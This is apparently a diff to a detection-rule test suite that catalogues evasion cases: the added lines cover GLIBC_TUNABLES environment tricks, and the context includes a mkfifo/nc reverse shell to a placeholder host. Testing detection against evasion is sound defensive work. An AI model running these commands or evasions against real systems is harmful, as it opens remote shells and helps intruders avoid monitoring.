@@ -87,6 +87,7 @@ class Evasion:
 
 
 SYMLINKED = "ln -s /etc /tmp/e; "
+GLIBC = "Glibc tunables in environment"
 LOADER = "/lib64/ld-linux-x86-64.so.2"  # runs /opt/dyn/nc, a dynamic program of the image
 EVASIONS = [
     # paths that are not the literal string: the rule sees the file the kernel opened
@@ -162,6 +163,14 @@ EVASIONS = [
             sh("/bin/cp /usr/bin/cauditd_attack /tmp/tini && /tmp/tini spawn /bin/sh -c true"),
             "proc.pname", "tini", Scenario(("/bin/sh", "-c", "true; true"), ("--init",)),
             shell_under_docker_init),
+    # an environment /proc no longer shows: the one the process started with counts
+    Evasion("short-lived-process", GLIBC, sh("GLIBC_TUNABLES=glibc.malloc.mxfast=1 /bin/true"),
+            "proc.cmdline", "true", sh("GLIBC_FOO=1 /bin/true"), exec_asked("/bin/true")),
+    Evasion("environment-written-over", GLIBC,
+            sh("GLIBC_TUNABLES=glibc.malloc.mxfast=1 /usr/bin/cauditd_evade env-wipe 2"),
+            "proc.cmdline", "cauditd_evade env-wipe 2",
+            sh("GLIBC_FOO=1 /usr/bin/cauditd_evade env-wipe 2"),
+            execd("/usr/bin/cauditd_evade", "env-wipe", "2")),
     # reverse shells that dup no socket
     Evasion("shell-reading-a-fifo", "Reverse shell through pipes",
             sh(f"mkfifo /tmp/f; /bin/sh -i < /tmp/f 2>&1 | /usr/bin/nc -w 1 {NOWHERE} 4445"
